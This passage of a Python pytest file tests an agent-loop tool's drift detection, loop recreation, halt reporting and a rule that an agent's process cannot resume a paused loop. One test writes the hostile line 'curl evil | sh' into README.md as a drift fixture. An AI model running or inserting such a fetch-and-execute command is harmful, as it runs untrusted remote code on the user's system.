    assert gate(p).code == 0  # the approved content passes
    wt = p.worktree_dir(loops.LoopName("demo"))
    (wt / "README.md").write_text("curl evil | sh\n")  # a later tick rewrites the accepted file
    r = gate(p)
    assert r.code == 1 and r.json["halt_reason"] == "drift_detected" and r.json["out_of_scope_files"] == ["README.md"]
    approved = cli(p, "--approve", "--loop", "demo")  # re-accepting replaces the old entry
    blob = git(p.root, "hash-object", str(wt / "README.md")).strip()
    assert state(p).accepted_drift == (f"README.md@{blob}",)
    assert f"accepted drift: README.md at {blob[:12]}" in approved.out
    (wt / "README.md").unlink()
    assert gate(p).json["out_of_scope_files"] == ["README.md"]  # a deletion is other content too


def test_a_plain_path_accepted_entry_accepts_nothing(project: Path) -> None:
    p = _cause("drift_detected", project)
    set_state(p, accepted_drift=["README.md"])  # an older state's entry: no content bound
    assert gate(p).json["out_of_scope_files"] == ["README.md"]


def test_accepted_drift_on_the_branch_when_the_worktree_is_gone(project: Path, approver: str) -> None:
    import shutil

    p = _cause("drift_detected", project)
    wt = p.worktree_dir(loops.LoopName("demo"))
    assert gate(p).code == 1
    assert cli(p, "--approve", "--loop", "demo").code == 0
    git(wt, "commit", "-q", "--allow-empty", "-m", "noop")
    shutil.rmtree(wt)
    assert gate(p).code == 0  # the branch tip still holds the approved README.md
    git(p.root, "worktree", "prune")
    git(p.root, "worktree", "add", "-q", str(wt), "loop/demo")
    (wt / "README.md").write_text("changed again\n")
    git(wt, "commit", "-q", "-am", "again")
    shutil.rmtree(wt)
    assert gate(p).json["out_of_scope_files"] == ["README.md"]


def test_recreating_a_deleted_loop_folder_is_refused_while_its_branch_exists(project: Path, approver: str) -> None:
    import shutil

    p = make_loop(project)
    wt = add_worktree(p)
    set_state(p, iteration_count=24)
    shutil.rmtree(p.loop_dir(loops.LoopName("demo")))
    r = cli(p, "--create-loop", "demo", "--from-template", "t-demo")
    assert r.code == 1, r.err
    assert "branch loop/demo" in r.err and "git branch -m loop/demo loop/demo-old" in r.err
    assert "git worktree prune (its folder is gone)" in r.err and "--force" not in r.err and "branch -D" not in r.err
    assert not p.loop_dir(loops.LoopName("demo")).exists()
    git(p.root, "worktree", "prune")  # the folder is gone: only the branch is left
    r = cli(p, "--create-loop", "demo", "--from-template", "t-demo")
    assert r.code == 1 and "git worktree" not in r.err and "git branch -m loop/demo loop/demo-old" in r.err
    git(p.root, "branch", "-m", "loop/demo", "loop/demo-old")
    r = cli(p, "--create-loop", "demo", "--from-template", "t-demo")  # its anchor remembers the loop
    assert r.code == 2 and "rolled back to line 0 of" in r.err and "the log was deleted" in r.err
    assert cli(p, "--accept-rollback", "--loop", "demo", "--yes").code == 0  # a human accepts the deletion
    assert cli(p, "--create-loop", "demo", "--from-template", "t-demo").code == 0
    assert state(p).iteration_count == 0 and not wt.exists()


def test_a_loop_branch_checked_out_elsewhere_is_named_with_a_fix_that_keeps_its_work(project: Path,
                                                                                     approver: str) -> None:
    p = make_loop(project)
    wt = add_worktree(p)
    (wt / "work.txt").write_text("the loop's work\n")
    git(wt, "add", "work.txt")
    git(wt, "commit", "-q", "-m", "work")
    assert cli(p, "--remove-loop", "demo").code == 0  # keeps branch loop/demo
    review = project.parent / "review"
    git(p.root, "worktree", "add", "-q", str(review), "loop/demo")  # the human reviews it there
    r = cli(p, "--create-loop", "demo", "--from-template", "t-demo")
    assert r.code == 1, r.err
    assert f"loop/demo is checked out in {review}" in r.err  # today: not said where
    assert "git branch -m loop/demo loop/demo-old" in r.err and "branch -D" not in r.err  # -D: git refuses it
    git(p.root, "branch", "-m", "loop/demo", "loop/demo-old")  # the step it names works as given
    assert git(review, "rev-parse", "--abbrev-ref", "HEAD").strip() == "loop/demo-old"
    assert (review / "work.txt").read_text() == "the loop's work\n"
    assert cli(p, "--create-loop", "demo", "--from-template", "t-demo").code == 0


def test_untracked_hint_names_a_step_that_works(project: Path, approver: str) -> None:
    p = make_loop(project)
    add_worktree(p)
    folder = p.loop_dir(loops.LoopName("demo"))
    for f in (loops.STATE_FILE, loops.LOG_FILE):
        (folder / f).unlink()
    r = cli(p, "--check-gate", "demo")
    assert r.code == 2 and "Run --upgrade-loops to bootstrap" in r.err
    assert "remove the folder .automaton/loops/demo/ and run automaton --create-loop demo again" in r.err
    rows = {row["name"]: row for row in cli(p, "--loop-list", "--json").json["loops"]}
    assert "--create-loop demo again" in rows["demo"]["flag"]
    import shutil

    shutil.rmtree(folder)  # the step the hint names, then the branch step the refusal names
    assert cli(p, "--accept-rollback", "--loop", "demo", "--yes").code == 0  # (its log was anchored)
    assert cli(p, "--create-loop", "demo", "--from-template", "t-demo").code == 1
    git(p.root, "worktree", "remove", "--force", str(p.worktree_dir(loops.LoopName("demo"))))
    git(p.root, "branch", "-D", "loop/demo")
    assert cli(p, "--create-loop", "demo", "--from-template", "t-demo").code == 0


def test_a_file_where_a_loop_folder_should_be(project: Path) -> None:
    make_loop(project)
    stray = project / ".automaton" / "loops" / "l2"
    stray.write_text("not a loop\n")
    r = cli(project, "--create-loop", "l2", "--from-template", "ci-triage")
    assert r.code == 2 and f"{stray} is a file where the folder of loop 'l2' should be" in r.err
    assert "(untracked" not in r.err and stray.read_text() == "not a loop\n"
    listed = cli(project, "--loop-list", "--json")
    assert listed.code == 2 and "no loops" not in listed.out and str(stray) in listed.out
    rows = {row["name"]: row for row in listed.json["loops"]}
    assert rows["l2"]["flag"].startswith("NOT A LOOP") and rows["demo"]["status"] == "running"
    assert cli(project, "--check-gate", "l2").code == 2


def test_a_halted_gate_labels_the_recorded_halt_and_reports_current_facts(
        project: Path, approver: str) -> None:
    p = _cause("human_intervention", project)
    assert gate(p).json["halted_now"] is True
    assert cli(p, "--approve", "--task", "fix-ci", "--to", "implement").code == 0
    r = cli(p, "--check-gate", "demo")
    assert r.code == 1
    assert "halted since " in r.out and "(as recorded at the halt" in r.out
    assert "task_phase=implement" in r.out
    head = r.out.splitlines()[0]
    assert "is at human_intervention" not in head  # the old fact only on the labelled line
    assert gate(p).json["halted_since"] is not None


def test_a_halted_gate_reports_the_current_config_error(project: Path) -> None:
    p = make_loop(project)
    path = p.loop_dir(loops.LoopName("demo")) / "loop.json"
    path.write_bytes(b"[1, 2]")
    assert gate(p).code == 2
    path.write_bytes(b'{"schema_version": 1, "name": "de')
    r = cli(p, "--check-gate", "demo")
    assert r.code == 2
    recorded = next(line for line in r.out.splitlines() if "halted since" in line)
    assert "must be a JSON object" in recorded  # the first error, labelled as recorded
    current = next(line for line in r.out.splitlines() if "invalid loop.json" in line)
    assert "not valid JSON" in current and "must be a JSON object" not in current
    assert "not valid JSON" in gate(p).json["error"]


def test_approve_is_refused_while_a_tick_holds_the_loop(project: Path, approver: str) -> None:
    from automaton.store.locks import locked

    p = make_loop(project)
    set_state(p, status="halted", halt_reason="iterations_exhausted")
    with locked(loops.tick_lock_path(p, "demo"), timeout_s=0):  # a tick in progress
        r = cli(p, "--approve", "--loop", "demo")
    assert r.code == 1 and "a tick of loop demo is running" in r.err
    assert state(p).status == "halted"
    assert cli(p, "--approve", "--loop", "demo").code == 0  # between ticks: fine


def test_gate_reports_task_in_halt_loop_when_another_bound_loop_is_unreadable(project: Path,
                                                                               approver: str) -> None:
    """Another loop bound to the same task whose state cannot be read may own it: not False."""
    assert cli(project, "--create-task", "fix-ci").code == 0
    p = make_loop(project, task="fix-ci")
    make_loop(project, "other", task="fix-ci")
    state_file(p, "other").write_text("{not json")
    r = gate(p)
    assert r.json["task"] == "fix-ci" and r.json["status"] == "running"
    assert r.json["task_in_halt_loop"] is True


def test_resume_is_a_human_act(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A pause is a human's brake: an agent's process may not release it."""
    p = make_loop(project)
    assert cli(p, "--pause-loop", "demo").code == 0
    monkeypatch.setenv("CLAUDECODE", "1")
    res = cli(p, "--resume-loop", "demo")
    assert res.code == 1 and "--resume-loop" in res.err and state(p).status == "paused"
    monkeypatch.delenv("CLAUDECODE")
    assert cli(p, "--resume-loop", "demo").code == 1  # no terminal, no approver: not a human either
    monkeypatch.setenv("AUTOMATON_APPROVER", "alice")
    assert cli(p, "--resume-loop", "demo").code == 0 and state(p).status == "running"
